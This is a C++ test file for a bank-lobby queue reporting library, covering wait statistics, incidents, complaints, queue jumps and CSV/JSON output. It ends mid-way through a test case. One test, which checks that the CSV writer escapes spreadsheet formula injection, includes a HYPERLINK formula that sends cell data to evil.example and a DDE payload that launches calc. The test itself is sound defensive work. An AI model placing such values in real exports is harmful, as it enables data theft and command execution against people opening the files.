// Report figures against values computed independently from the simulator's ground truth (one row per
// customer): three simulated paydays, the report over the last two, the first as the previous period.
#include "lobby/EventCsv.h"
#include "lobby/LocalTime.h"
#include "report/Report.h"
#include "report/ReportFormat.h"
#include "forecast/Watch.h"
#include "lobby/Lobby.h"

#include <catch2/catch.hpp>

#include <algorithm>
#include <cmath>
#include <cstdlib>
#include <fstream>
#include <map>
#include <sstream>

using namespace lw;

namespace {

std::string bin(const std::string& name) { return std::string(std::getenv("LW_BIN_DIR")) + "/" + name; }
std::string tmp(const std::string& name) { return std::string(std::getenv("LW_TEST_TMP")) + "/" + name; }

lobby::LobbyConfig branch() {
    lobby::LobbyConfig c;
    c.categories = {{"A", "个人业务", "Personal", 15, 20, 30}, {"B", "对公业务", "Corporate", 15, 20, 30}, {"V", "贵宾业务", "VIP", 10, 15, 20}};
    return c;
}

struct Truth {
    std::string day, ticket, category, outcome;
    lobby::TimeMs issued = 0;
    std::optional<lobby::TimeMs> called;
    int window = 0;
    std::string transferredTo;
    struct Wait {
        std::string category;
        double seconds = 0;
    };
    std::vector<Wait> waits;  // each on its own clock: the first from the issue, a second from the transfer
};

std::vector<std::string> cells(const std::string& line) {
    std::vector<std::string> out;
    std::stringstream in(line);
    std::string cell;
    while (std::getline(in, cell, ',')) out.push_back(cell);
    if (!line.empty() && line.back() == ',') out.emplace_back();
    return out;
}

std::vector<Truth> readTruth(const std::string& path) {
    std::ifstream in(path);
    std::string line;
    std::getline(in, line);  // header
    std::vector<Truth> rows;
    while (std::getline(in, line)) {
        auto c = cells(line);
        REQUIRE(c.size() == 16);
        Truth t;
        t.ticket = c[2];
        t.category = c[3];
        t.issued = *lobby::parseLocalTime(c[6], 480);
        t.day = c[6].substr(0, 10);
        if (!c[9].empty()) t.called = *lobby::parseLocalTime(c[9], 480);
        t.window = c[13].empty() ? 0 : std::stoi(c[13]);
        t.transferredTo = c[14];
        t.outcome = c[15];
        rows.push_back(t);
    }
    return rows;
}

// Nearest rank, as a statistician would do it by hand.
double nearestRank(std::vector<double> v, double p) {
    std::sort(v.begin(), v.end());
    std::size_t rank = static_cast<std::size_t>(std::ceil(p * static_cast<double>(v.size())));
    return v[rank == 0 ? 0 : rank - 1];
}

}  // namespace

TEST_CASE("calendar arithmetic for periods and weekdays") {
    CHECK(report::addDays("2026-01-05", 1) == "2026-01-06");
    CHECK(report::addDays("2026-03-01", -1) == "2026-02-28");
    CHECK(report::addDays("2024-03-01", -1) == "2024-02-29");
    CHECK(report::addDays("2026-12-31", 1) == "2027-01-01");
    CHECK(report::daysBetween("2026-01-01", "2026-12-31") == 365);
    CHECK(report::daysBetween("2026-01-06", "2026-01-05") == 0);
    CHECK(report::weekdayOf("2026-01-05") == 0);  // a Monday
    CHECK(report::weekdayOf("2026-11-29") == 6);  // a Sunday
}

TEST_CASE("the report's ticket figures equal the ones computed from the simulator's ground truth") {
    const std::string cap = tmp("days.cap"), truth = tmp("truth.csv"), events = tmp("events.csv");
    const std::string cmd = bin("lobbywatch-sim") + " --profile payday --seed 11 --days 3 --speed max --quiet --out " + cap +
                            " --truth " + truth + " --truth-events " + events;
    REQUIRE(std::system(cmd.c_str()) == 0);
    std::vector<lobby::LobbyEvent> log;
    {
        std::ifstream in(events);
        lobby::EventCsvReader reader(in, "truth", 480);
        lobby::CsvRow row;
        while (reader.next(row)) {
            REQUIRE(row.event() != nullptr);
            log.push_back(*row.event());
        }
    }
    auto rows = readTruth(truth);
    REQUIRE(rows.size() > 3000);
    // The truth gives a transferred customer's call at the second window; the report counts each wait on its own
    // clock, as the alerts do: issue to the first call (in the category issued), and transfer to the call at the
    // second window (in the category transferred to). The first call and the transfer from the event stream.
    int transferred = 0;
    for (auto& t : rows) {
        if (t.called) t.waits.push_back({t.category, static_cast<double>(*t.called - t.issued) / 1000.0});
        if (t.outcome != "transferred_then_served") continue;
        ++transferred;
        REQUIRE(t.called);
        REQUIRE(t.transferredTo.size() == 1);
        const lobby::TimeMs second = *t.called;
        std::optional<lobby::TimeMs> first, transfer;
        for (const auto& e : log) {
            if (e.ticket != t.ticket || e.time < t.issued) continue;
            if (!first && e.kind == lobby::EventKind::Called) first = e.time;
            if (!transfer && e.kind == lobby::EventKind::Transferred) transfer = e.time;
            if (first && transfer) break;
        }
        REQUIRE(first);
        REQUIRE(transfer);
        t.called = *first;
        t.waits = {{t.category, static_cast<double>(*first - t.issued) / 1000.0},
                   {t.transferredTo, static_cast<double>(second - *transfer) / 1000.0}};
    }
    CHECK(transferred > 0);
    const lobby::LobbyConfig config = branch();
    report::Report r = report::build(log, {}, config, "2026-01-06", "2026-01-07");
    CHECK(r.current.days == 2);
    CHECK(r.previous.from == "2026-01-04");
    CHECK(r.previous.to == "2026-01-05");

    auto check = [&](const report::Period& p, const std::string& from, const std::string& to) {
        for (const auto& c : config.categories) {
            INFO("category " << c.code << " " << from << ".." << to);
            int issued = 0, called = 0, served = 0, noShow = 0, abandoned = 0, inTarget = 0, inLimit = 0;
            std::vector<double> waits;
            for (const auto& t : rows) {
                if (t.day < from || t.day > to) continue;
                for (const auto& w : t.waits)
                    if (w.category == c.code) {
                        waits.push_back(w.seconds);
                        inTarget += w.seconds <= c.targetMin * 60.0;
                        inLimit += w.seconds <= c.limitMin * 60.0;
                    }
                if (t.category != c.code) continue;
                ++issued;
                if (t.called) ++called;
                if (t.outcome == "served" || t.outcome == "transferred_then_served") ++served;
                else if (t.outcome == "no_show") ++noShow;
                else ++abandoned;
            }
            auto f = std::find_if(p.categories.begin(), p.categories.end(), [&](const auto& x) { return x.code == c.code; });
            REQUIRE(f != p.categories.end());
            CHECK(f->issued == issued);
            CHECK(f->called == called);
            CHECK(f->served == served);
            CHECK(f->noShow == noShow);
            CHECK(f->abandoned == abandoned);
            CHECK(f->waits == static_cast<int>(waits.size()));
            if (!waits.empty()) {
                double sum = 0;
                for (double w : waits) sum += w;
                CHECK(f->meanWaitS == Approx(sum / static_cast<double>(waits.size())));
                CHECK(f->medianWaitS == Approx(nearestRank(waits, 0.5)));
                CHECK(f->p90WaitS == Approx(nearestRank(waits, 0.9)));
                CHECK(f->maxWaitS == Approx(*std::max_element(waits.begin(), waits.end())));
                CHECK(f->withinTarget == Approx(static_cast<double>(inTarget) / static_cast<double>(waits.size())));
                CHECK(f->withinLimit == Approx(static_cast<double>(inLimit) / static_cast<double>(waits.size())));
                CHECK(f->noShowRate == Approx(static_cast<double>(noShow) / called));
            }
            CHECK(f->abandonRate == Approx(issued ? static_cast<double>(abandoned) / issued : 0.0));
        }
    };
    check(r.current, "2026-01-06", "2026-01-07");
    check(r.previous, "2026-01-04", "2026-01-05");
    CHECK(r.previous.all.issued > 1000);  // the first simulated day

    // Every wait's call is in the heat map, on the right weekdays (Tuesday and Wednesday).
    int heat = 0;
    for (int d = 0; d < 7; ++d)
        for (int h = 0; h < 24; ++h) {
            heat += r.current.heat[d][h].tickets;
            if (d != 1 && d != 2) CHECK(r.current.heat[d][h].tickets == 0);
        }
    CHECK(heat == r.current.all.waits);
    CHECK(r.current.all.transferWaits > 0);
    CHECK(r.current.all.waits == r.current.all.called + r.current.all.transferWaits);
    // Windows: what they served adds up to the tickets served; services and walks are plausible.
    int servedAtWindows = 0;
    for (const auto& w : r.current.windows) {
        servedAtWindows += w.served;
        if (w.served > 0) {
            CHECK(w.meanServiceS > 10);
            CHECK(w.p90ServiceS >= w.meanServiceS * 0.8);
            CHECK(w.meanWalkS > 0);
            CHECK(w.meanWalkS < 300);
            CHECK(w.openS > 3600);
        }
    }
    CHECK(servedAtWindows == r.current.all.served);
}

TEST_CASE("day totals merged, and kept as bytes and read back, give the same report as the whole range at once") {
    const std::string cap = tmp("days2.cap"), events = tmp("events2.csv");
    const std::string cmd = bin("lobbywatch-sim") + " --profile city --seed 5 --days 4 --speed max --quiet --out " + cap +
                            " --truth-events " + events;
    REQUIRE(std::system(cmd.c_str()) == 0);
    std::vector<lobby::LobbyEvent> log;
    {
        std::ifstream in(events);
        lobby::EventCsvReader reader(in, "truth", 480);
        lobby::CsvRow row;
        while (reader.next(row))
            if (row.event()) log.push_back(*row.event());
    }
    const lobby::LobbyConfig config = branch();
    report::Report whole = report::build(log, {}, config, "2026-01-07", "2026-01-08");
    report::Totals current, previous;
    for (const char* day : {"2026-01-07", "2026-01-08"}) {
        auto bytes = report::summarize(log, {}, config, day, day).serialize();
        auto back = report::Totals::parse(bytes);
        REQUIRE(back);
        current.merge(*back);
    }
    for (const char* day : {"2026-01-05", "2026-01-06"}) previous.merge(report::summarize(log, {}, config, day, day));
    report::Report byDays = report::buildFromTotals(current, previous, {}, config, "2026-01-07", "2026-01-08");
    for (std::size_t i = 0; i < whole.current.categories.size(); ++i) {
        const auto& a = whole.current.categories[i];
        const auto& b = byDays.current.categories[i];
        CHECK(a.issued == b.issued);
        CHECK(a.served == b.served);
        CHECK(a.meanWaitS == Approx(b.meanWaitS));
        CHECK(a.medianWaitS == Approx(b.medianWaitS));
        CHECK(a.p90WaitS == Approx(b.p90WaitS));
        CHECK(a.withinTarget == Approx(b.withinTarget));
    }
    CHECK(whole.previous.all.issued == byDays.previous.all.issued);
    REQUIRE(whole.current.windows.size() == byDays.current.windows.size());
    for (std::size_t i = 0; i < whole.current.windows.size(); ++i) {
        CHECK(whole.current.windows[i].served == byDays.current.windows[i].served);
        CHECK(whole.current.windows[i].p90ServiceS == Approx(byDays.current.windows[i].p90ServiceS));
        CHECK(whole.current.windows[i].idleWhileWaitingS == Approx(byDays.current.windows[i].idleWhileWaitingS).margin(0.01));
    }
    for (int d = 0; d < 7; ++d)
        for (int h = 0; h < 24; ++h) CHECK(whole.current.heat[d][h].tickets == byDays.current.heat[d][h].tickets);
    // Damaged or foreign bytes are refused, not misread.
    CHECK_FALSE(report::Totals::parse(""));
    CHECK_FALSE(report::Totals::parse("garbage"));
    std::string cut = report::summarize(log, {}, config, "2026-01-07", "2026-01-07").serialize();
    cut.pop_back();
    CHECK_FALSE(report::Totals::parse(cut));
}

TEST_CASE("incidents: counts by kind, time to acknowledge and resolve, never acknowledged, escalations") {
    const lobby::TimeMs t0 = *lobby::parseLocalTime("2026-01-06T10:00:00", 480);
    std::vector<report::IncidentRecord> incidents = {
        {t0, "long_wait", "ticket:A042", t0 + 60'000, t0 + 300'000, 0, false, {}},
        {t0, "long_wait", "ticket:A043", t0 + 180'000, 0, t0 + 600'000, false, {}},
        {t0, "long_wait", "ticket:A044", 0, 0, t0 + 900'000, true, {}},
        {t0, "device_offline", "device:counter/1", 0, 0, 0, false, {}},
        {t0 + 86'400'000LL * 5, "long_wait", "ticket:A045", t0, t0, 0, false, {}},  // outside the period
    };
    report::Report r = report::build({}, incidents, branch(), "2026-01-06", "2026-01-06");
    REQUIRE(r.current.incidents.size() == 2);
    const auto& lw = r.current.incidents[1];
    CHECK(lw.kind == "long_wait");
    CHECK(lw.count == 3);
    CHECK(lw.acknowledged == 2);
    CHECK(lw.neverAcknowledged == 1);
    CHECK(lw.escalated == 1);
    CHECK(lw.meanAckS == Approx(120));
    CHECK(lw.meanResolveS == Approx((300 + 600 + 900) / 3.0));
    CHECK(r.current.incidents[0].kind == "device_offline");
    CHECK(r.current.incidents[0].neverAcknowledged == 1);
}

TEST_CASE("complaints in the report: by cause and channel, those after a wait alert, answered on time or late") {
    const lobby::TimeMs t0 = *lobby::parseLocalTime("2026-01-06T10:00:00", 480);
    // An alert about A042 as earlier versions raised it (one per ticket), and a situation with A060 among its members.
    std::vector<report::IncidentRecord> incidents = {{t0, "long_wait", "ticket:A042", 0, 0, 0, false, {}},
                                                     {t0, "waits", "category:A", 0, 0, 0, false, {"A059", "A060"}}};
    auto complaint = [&](const std::string& cause, const std::string& channel, const std::string& ticket,
                         const std::string& state, lobby::TimeMs answeredAt) {
        report::Complaint c;
        c.receivedAt = t0 + 3'600'000;
        c.receivedDay = "2026-01-06";
        c.cause = cause;
        c.channel = channel;
        c.ticket = ticket;
        c.ticketDay = ticket.empty() ? "" : "2026-01-06";
        c.dueDay = "2026-01-09";
        c.state = state;
        c.repliedAt = answeredAt;
        if (answeredAt && state != "reopened") c.replyDay = lobby::businessDayOf(answeredAt, branch());
        return c;
    };
    std::vector<report::Complaint> complaints = {
        complaint("long_wait", "on_site", "A042", "replied", t0 + 86'400'000LL),        // after the alert; on time
        complaint("long_wait", "phone", "A050", "closed", t0 + 5 * 86'400'000LL),       // no alert; late
        complaint("staff_attitude", "on_site", "", "received", 0),
        complaint("policy", "phone", "", "reopened", t0 + 86'400'000LL),  // replied, not satisfied: not answered
        complaint("policy", "letter", "", "closed", 0),                   // closed with no reply: never on time
        complaint("long_wait", "phone", "A060", "received", 0),           // after the situation it was in
    };
    report::Report r = report::build({}, incidents, branch(), "2026-01-06", "2026-01-06", complaints);
    const auto& f = r.current.complaints;
    CHECK(f.count == 6);
    CHECK(f.byCause.at("long_wait") == 3);
    CHECK(f.byChannel.at("on_site") == 2);
    CHECK(f.afterWaitAlert == 2);
    CHECK(f.answeredOnTime == 1);
    CHECK(f.answeredLate == 2);
    CHECK(f.open == 3);
    CHECK(r.previous.complaints.count == 0);
}

TEST_CASE("forecast honesty: the wait told at issue against the wait that followed, by category") {
    const lobby::TimeMs t0 = *lobby::parseLocalTime("2026-01-06T10:00:00", 480);
    auto ev = [](lobby::EventKind k, lobby::TimeMs t, const std::string& ticket, int window) {
        lobby::LobbyEvent e;
        e.kind = k;
        e.time = t;
        e.ticket = ticket;
        e.window = window;
        if (k == lobby::EventKind::Issued) e.category = ticket.substr(0, 1);
        return e;
    };
    std::vector<lobby::LobbyEvent> events = {
        ev(lobby::EventKind::WindowOpen, t0, "", 1),
        ev(lobby::EventKind::Issued, t0, "A001", 0),
        ev(lobby::EventKind::Issued, t0 + 60'000, "A002", 0),
        ev(lobby::EventKind::Issued, t0 + 120'000, "A003", 0),
        ev(lobby::EventKind::Called, t0 + 600'000, "A001", 1),      // waited 10 min, told 5: 5 min short
        ev(lobby::EventKind::Called, t0 + 1'260'000, "A002", 1),    // waited 20 min, told 22: 2 min over
        ev(lobby::EventKind::Called, t0 + 1'320'000, "A003", 1),    // told nothing
    };
    std::vector<report::TicketEstimate> told = {{t0, "A001", 5}, {t0 + 60'000, "A002", 22}, {t0 + 120'000, "A003", -1}};
    report::Report r = report::build(events, {}, branch(), "2026-01-06", "2026-01-06", {}, told);
    const auto& a = r.current.categories[0];
    CHECK(a.estimated == 2);
    CHECK(a.estimateMaeS == Approx((300 + 120) / 2.0));
    CHECK(a.estimateBiasS == Approx((-300 + 120) / 2.0));
    CHECK(r.current.all.estimated == 2);
}

namespace {

lobby::LobbyEvent at(lobby::EventKind k, const std::string& local, const std::string& ticket, int window) {
    lobby::LobbyEvent e;
    e.kind = k;
    e.time = *lobby::parseLocalTime(local, 480);
    e.ticket = ticket;
    e.window = window;
    if (k == lobby::EventKind::Issued) e.category = ticket.substr(0, 1);
    return e;
}

int servedByWindows(const report::Period& p) {
    int n = 0;
    for (const auto& w : p.windows) n += w.served;
    return n;
}

}  // namespace

TEST_CASE("a report on a day still running: people waiting are waiting, people at a window are being served, open "
          "windows count up to now") {
    using K = lobby::EventKind;
    const std::vector<lobby::LobbyEvent> events = {
        at(K::WindowOpen, "2026-01-07T09:00:00", "", 1),
        at(K::Issued, "2026-01-07T09:00:00", "A001", 0),
        at(K::Issued, "2026-01-07T09:01:00", "A002", 0),
        at(K::Issued, "2026-01-07T09:02:00", "A003", 0),
        at(K::Issued, "2026-01-07T09:03:00", "A004", 0),
        at(K::Called, "2026-01-07T09:05:00", "A001", 1),
        at(K::Started, "2026-01-07T09:06:00", "A001", 1),
        at(K::Finished, "2026-01-07T09:10:00", "A001", 1),
        at(K::Called, "2026-01-07T09:11:00", "A002", 1),
        at(K::Started, "2026-01-07T09:12:00", "A002", 1),  // being served at 10:00
        at(K::Abandoned, "2026-01-07T09:30:00", "A004", 0),
    };
    const report::RunningDay running{"2026-01-07", *lobby::parseLocalTime("2026-01-07T10:00:00", 480)};
    report::Report r = report::build(events, {}, branch(), "2026-01-07", "2026-01-07", {}, {}, running);
    const auto& a = r.current.categories[0];
    CHECK(a.issued == 4);
    CHECK(a.served == 1);
    CHECK(a.serving == 1);    // A002, not a no-show
    CHECK(a.waiting == 1);    // A003, not abandoned
    CHECK(a.abandoned == 1);  // A004 gave up
    CHECK(a.noShow == 0);
    CHECK(r.current.all.waiting == 1);
    CHECK(r.current.all.serving == 1);
    CHECK(r.current.runningDay == "2026-01-07");
    CHECK(r.current.asOfLocal == "2026-01-07T10:00:00");
    REQUIRE(r.current.windows.size() == 1);
    CHECK(r.current.windows[0].openS == Approx(3600));  // 09:00 to now, not to the last event
    CHECK(r.current.windows[0].served == 1);
    // The same events as a closed day: the waiting one abandoned, the one at the window served there.
    report::Report closed = report::build(events, {}, branch(), "2026-01-07", "2026-01-07");
    const auto& c = closed.current.categories[0];
    CHECK(c.waiting == 0);
    CHECK(c.serving == 0);
    CHECK(c.abandoned == 2);
    CHECK(c.served == 2);
    CHECK(servedByWindows(closed.current) == 2);
    CHECK(closed.current.runningDay.empty());
    // A report that does not cover the running day is not affected by it.
    report::Report yesterday = report::build(events, {}, branch(), "2026-01-06", "2026-01-06", {}, {}, running);
    CHECK(yesterday.current.runningDay.empty());
}

TEST_CASE("a window serving across the business-day rollover shows its open hours on the new day") {
    using K = lobby::EventKind;
    // The business day starts at 04:00; window 2 serves from the evening through the rollover.
    lobby::LobbyConfig config = branch();
    config.businessDayStartMinutes = 4 * 60;
    const std::vector<lobby::LobbyEvent> events = {
        at(K::WindowOpen, "2026-01-07T22:00:00", "", 2),
        at(K::Issued, "2026-01-08T03:40:00", "A001", 0),
        at(K::Called, "2026-01-08T03:50:00", "A001", 2),
        at(K::Started, "2026-01-08T03:51:00", "A001", 2),
        // The new business day (2026-01-08) from 04:00:
        at(K::Finished, "2026-01-08T04:10:00", "A001", 2),
        at(K::Issued, "2026-01-08T04:20:00", "A001", 0),
        at(K::Called, "2026-01-08T04:30:00", "A001", 2),
        at(K::Started, "2026-01-08T04:31:00", "A001", 2),
        at(K::Finished, "2026-01-08T04:40:00", "A001", 2),
        at(K::WindowClose, "2026-01-08T05:00:00", "", 2),
    };
    report::Report day = report::build(events, {}, config, "2026-01-08", "2026-01-08");
    REQUIRE(day.current.windows.size() == 1);
    CHECK(day.current.windows[0].openS == Approx(3600));  // 04:00 to 05:00, not 0
    // The customer served across the rollover counts once, on the day it was issued (served there at the close),
    // and by category and by window alike on each day.
    report::Report before = report::build(events, {}, config, "2026-01-07", "2026-01-07");
    CHECK(before.current.all.served == 1);
    CHECK(servedByWindows(before.current) == 1);
    CHECK(day.current.all.served == 1);
    CHECK(servedByWindows(day.current) == 1);
    // Per day or over both, the totals agree.
    report::Report both = report::build(events, {}, config, "2026-01-07", "2026-01-08");
    CHECK(both.current.all.served == 2);
    CHECK(servedByWindows(both.current) == 2);
}

TEST_CASE("served by category and by window agree whatever the log holds: finishes twice, of unknown tickets, across "
          "a clock set back") {
    using K = lobby::EventKind;
    std::vector<lobby::LobbyEvent> events = {
        at(K::WindowOpen, "2026-01-07T09:00:00", "", 1),
        at(K::Issued, "2026-01-07T09:00:00", "A001", 0),
        at(K::Called, "2026-01-07T09:05:00", "A001", 1),
        at(K::Finished, "2026-01-07T09:10:00", "A001", 1),
        at(K::Finished, "2026-01-07T09:10:05", "A001", 1),  // finished twice
        at(K::Finished, "2026-01-07T09:11:00", "A077", 1),  // never issued
        at(K::Issued, "2026-01-07T09:12:00", "A002", 0),
        at(K::Called, "2026-01-07T09:13:00", "A002", 1),
        at(K::Finished, "2026-01-07T09:20:00", "A002", 1),
        // The clock set back a day: the keypad's finishes land on the day before, whose tickets never existed.
        at(K::Finished, "2026-01-06T09:21:00", "A001", 1),
        at(K::Finished, "2026-01-06T09:22:00", "A002", 1),
    };
    report::Report r = report::build(events, {}, branch(), "2026-01-06", "2026-01-07");
    CHECK(r.current.all.served == 2);
    CHECK(servedByWindows(r.current) == r.current.all.served);
    CHECK(r.current.windows[0].meanServiceS >= 0);
    // And through kept day totals (a new format: totals kept by the old rules are not read).
    report::Totals sum;
    for (const char* d : {"2026-01-06", "2026-01-07"}) {
        auto kept = report::Totals::parse(report::summarize(events, {}, branch(), d, d).serialize());
        REQUIRE(kept);
        sum.merge(*kept);
    }
    report::Report byDays = report::buildFromTotals(sum, {}, {}, branch(), "2026-01-06", "2026-01-07");
    CHECK(byDays.current.all.served == 2);
    CHECK(servedByWindows(byDays.current) == 2);
    std::string v1 = report::summarize(events, {}, branch(), "2026-01-07", "2026-01-07").serialize();
    v1[0] = 1;  // the format number of totals kept before
    CHECK_FALSE(report::Totals::parse(v1));
}

TEST_CASE("the running day's waiting and serving counts in the CSV and JSON") {
    using K = lobby::EventKind;
    const std::vector<lobby::LobbyEvent> events = {
        at(K::Issued, "2026-01-07T09:00:00", "B001", 0),
        at(K::Issued, "2026-01-07T09:01:00", "B002", 0),
        at(K::Called, "2026-01-07T09:05:00", "B001", 3),
    };
    const report::RunningDay running{"2026-01-07", *lobby::parseLocalTime("2026-01-07T09:30:00", 480)};
    report::Report r = report::build(events, {}, branch(), "2026-01-07", "2026-01-07", {}, {}, running);
    const std::string json = report::toJson(r);
    CHECK_THAT(json, Catch::Contains("\"running_day\":\"2026-01-07\",\"as_of\":\"2026-01-07T09:30:00\""));
    CHECK_THAT(json, Catch::Contains("\"code\":\"B\"") && Catch::Contains("\"abandoned\":0,\"waiting\":1,\"serving\":1"));
    CHECK_THAT(json, Catch::Contains("\"previous\":{\"from\":\"2026-01-06\",\"to\":\"2026-01-06\",\"days\":1,\"has_data\":false,"
                                     "\"running_day\":null"));
    const std::string csv = report::toCsv(r, report::Lang::En);
    CHECK_THAT(csv, Catch::Contains("Still running,2026-01-07,as of,2026-01-07T09:30:00"));
    CHECK_THAT(csv, Catch::Contains("Waiting now") && Catch::Contains("At a window now"));
    // B row: issued 2, served 0, no-show 0, abandoned 0, waiting 1, serving 1, each beside the previous period,
    // which logged nothing: empty cells ("no data" in the heading), not 0.
    CHECK_THAT(csv, Catch::Contains("B Corporate,2,,0,,0,,0,,1,,1,,"));
}

TEST_CASE("a name a spreadsheet would run as a formula is written as text in the CSV") {
    using K = lobby::EventKind;
    const std::vector<lobby::LobbyEvent> events = {at(K::Issued, "2026-01-07T09:00:00", "B001", 0)};
    report::Report r = report::build(events, {}, branch(), "2026-01-07", "2026-01-07", {}, {});
    r.branchName = "=HYPERLINK(\"http://evil.example/\"&A1,\"report\")";
    r.branchId = "@SUM(1+1)*cmd|' /C calc'!A0";
    const std::string csv = report::toCsv(r, report::Lang::En);
    CHECK_THAT(csv, Catch::Contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"report\"\")\","));
    CHECK_THAT(csv, Catch::Contains(",'@SUM(1+1)*cmd|' /C calc'!A0"));
    CHECK_THAT(csv, !Catch::Contains(",=HYPERLINK") && !Catch::Contains(",\"=HYPERLINK") && !Catch::Contains(",@SUM"));
}

TEST_CASE("a call at a closed window opens it; a finish after the window closed does not reopen it") {
    using K = lobby::EventKind;
    const std::vector<lobby::LobbyEvent> events = {
        at(K::Issued, "2026-01-07T09:00:00", "A001", 0),
        at(K::Called, "2026-01-07T09:30:00", "A001", 4),  // no opening on record
        at(K::WindowClose, "2026-01-07T10:00:00", "", 4),
        at(K::Finished, "2026-01-07T10:05:00", "A001", 4),  // recorded late
        at(K::Issued, "2026-01-07T12:00:00", "A002", 0),    // the day goes on
    };
    report::Report r = report::build(events, {}, branch(), "2026-01-07", "2026-01-07");
    REQUIRE(r.current.windows.size() == 1);
    CHECK(r.current.windows[0].openS == Approx(1800));  // 09:30 to 10:00
    CHECK(r.current.windows[0].served == 1);
    CHECK(r.current.all.served == 1);
}

TEST_CASE("a month is compared with the previous calendar month, month to date with the same days of it") {
    using report::previousPeriod;
    CHECK(previousPeriod("2026-03-01", "2026-03-31") == std::pair<std::string, std::string>{"2026-02-01", "2026-02-28"});
    CHECK(previousPeriod("2026-02-01", "2026-02-28") == std::pair<std::string, std::string>{"2026-01-01", "2026-01-31"});
    CHECK(previousPeriod("2026-03-01", "2026-03-15") == std::pair<std::string, std::string>{"2026-02-01", "2026-02-15"});
    CHECK(previousPeriod("2026-03-01", "2026-03-30") == std::pair<std::string, std::string>{"2026-02-01", "2026-02-28"});
    CHECK(previousPeriod("2026-01-01", "2026-01-31") == std::pair<std::string, std::string>{"2025-12-01", "2025-12-31"});
    // Not a calendar month: the same number of days just before.
    CHECK(previousPeriod("2026-03-05", "2026-03-11") == std::pair<std::string, std::string>{"2026-02-26", "2026-03-04"});
    report::Report r = report::build({}, {}, branch(), "2026-03-01", "2026-03-31");
    CHECK(r.previous.from == "2026-02-01");
    CHECK(r.previous.to == "2026-02-28");
}

TEST_CASE("no data is said as no data: a previous period with nothing logged, a mean of nothing acknowledged; "
          "incident kinds in words; the branch named") {
    const lobby::TimeMs t0 = *lobby::parseLocalTime("2026-01-06T10:00:00", 480);
    std::vector<report::IncidentRecord> incidents = {{t0, "device_offline", "device:counter/1", 0, 0, 0, false, {}},
                                                     {t0, "no_shows", "window:2", 0, 0, 0, false, {}}};
    std::vector<lobby::LobbyEvent> events;
    lobby::LobbyEvent e;
    e.time = t0;
    e.kind = lobby::EventKind::Issued;
    e.ticket = "A001";
    e.category = "A";
    events.push_back(e);
    report::Report r = report::build(events, incidents, branch(), "2026-01-06", "2026-01-06");
    r.branchName = "建设路支行";
    r.branchId = "110105-023";
    CHECK_FALSE(report::hasData(r.previous));
    CHECK(report::hasData(r.current));
    const std::string zh = report::toCsv(r, report::Lang::Zh);
    CHECK(zh.find("无数据") != std::string::npos);
    CHECK(zh.find("建设路支行,110105-023") != std::string::npos);
    CHECK(zh.find("设备离线") != std::string::npos);
    CHECK(zh.find("连续过号") != std::string::npos);
    CHECK(zh.find("device_offline") == std::string::npos);
    CHECK(zh.find("no_shows") == std::string::npos);
    // The incident rows: count 1, never acknowledged 1, escalated 0, then the means: empty, not 0.0.
    const std::string en = report::toCsv(r, report::Lang::En);
    CHECK(en.find("Device offline,1,,1,,0,,,,,") != std::string::npos);
    CHECK(en.find("no data") != std::string::npos);
    // The previous period's cells of the categories are empty, not 0.
    CHECK(en.find("All,1,,") != std::string::npos);
    const std::string json = report::toJson(r);
    CHECK(json.find("\"mean_ack_s\":null") != std::string::npos);
    CHECK(json.find("\"has_data\":false") != std::string::npos);
    CHECK(json.find("\"estimated\":0,\"estimate_mae_s\":null,\"estimate_bias_s\":null") != std::string::npos);
    CHECK(json.find("\"branch\":{\"name\":\"建设路支行\",\"id\":\"110105-023\"}") != std::string::npos);
}

TEST_CASE("queue jumps counted per window in the branch report, kept with the day's totals, day by day") {
    using K = lobby::EventKind;
    auto at = [](const char* t) { return *lobby::parseLocalTime(t, 480); };
    auto ev = [](lobby::TimeMs t, K kind, const std::string& ticket, int window, bool priority = false) {
        lobby::LobbyEvent e;
        e.time = t;
        e.kind = kind;
        e.ticket = ticket;
        e.window = window;
        e.priority = priority;
        if (kind == K::Issued) e.category = ticket.substr(0, 1);
        return e;
    };
    // Day 1: window 2 calls A003 ahead of A001 and A002 (one jump), window 1 then calls them in order; a priority
    // ticket, A004, called ahead of A005 is not a jump. A005 still waits at the day's end.
    // Day 2: A001 (a new customer) is called at window 1: A005 of the day before is no longer in the queue.
    std::vector<lobby::LobbyEvent> log = {
        ev(at("2026-01-07T09:00:00"), K::WindowOpen, "", 1),   ev(at("2026-01-07T09:00:00"), K::WindowOpen, "", 2),
        ev(at("2026-01-07T09:01:00"), K::Issued, "A001", 0),   ev(at("2026-01-07T09:02:00"), K::Issued, "A002", 0),
        ev(at("2026-01-07T09:03:00"), K::Issued, "A003", 0),   ev(at("2026-01-07T09:04:00"), K::Called, "A003", 2),
        ev(at("2026-01-07T09:05:00"), K::Called, "A001", 1),   ev(at("2026-01-07T09:06:00"), K::Called, "A002", 1),
        ev(at("2026-01-07T09:07:00"), K::Issued, "A005", 0),   ev(at("2026-01-07T09:08:00"), K::Issued, "A004", 0, true),
        ev(at("2026-01-07T09:09:00"), K::Called, "A004", 1),
        ev(at("2026-01-08T09:00:00"), K::WindowOpen, "", 1),   ev(at("2026-01-08T09:01:00"), K::Issued, "A001", 0),
        ev(at("2026-01-08T09:02:00"), K::Called, "A001", 1)};
    const lobby::LobbyConfig config = branch();
    report::Report whole = report::build(log, {}, config, "2026-01-07", "2026-01-08");
    std::map<int, int> jumps;
    for (const auto& w : whole.current.windows) jumps[w.number] = w.queueJumps;
    CHECK(jumps == std::map<int, int>{{1, 0}, {2, 1}});
    // Kept as bytes and read back, day by day: the same.
    report::Totals kept;
    for (const char* day : {"2026-01-07", "2026-01-08"}) kept.merge(*report::Totals::parse(report::summarize(log, {}, config, day, day).serialize()));
    report::Report byDays = report::buildFromTotals(kept, {}, {}, config, "2026-01-07", "2026-01-08");
    for (const auto& w : byDays.current.windows) CHECK(w.queueJumps == jumps[w.number]);
    // In the JSON and the CSV (in both languages).
    CHECK_THAT(report::toJson(whole), Catch::Contains("\"number\":2,") && Catch::Contains("\"queue_jumps\":1}"));
    CHECK_THAT(report::toCsv(whole, report::Lang::En), Catch::Contains("Calls out of turn"));
    CHECK_THAT(report::toCsv(whole, report::Lang::Zh), Catch::Contains("未按顺序叫号"));
}

TEST_CASE("transfers: the report counts each wait on its own clock, as the alert card does, and the time in the branch") {
    using K = lobby::EventKind;
    lobby::LobbyConfig config;
    config.categories = {{"A", "个人", "Personal", 15, 20, 30}, {"B", "对公", "Corporate", 15, 20, 30}};
    config.windows = {{2, {"A"}}, {3, {"B"}}};
    const lobby::TimeMs start = *lobby::parseLocalTime("2026-01-05T09:00:00", 480);
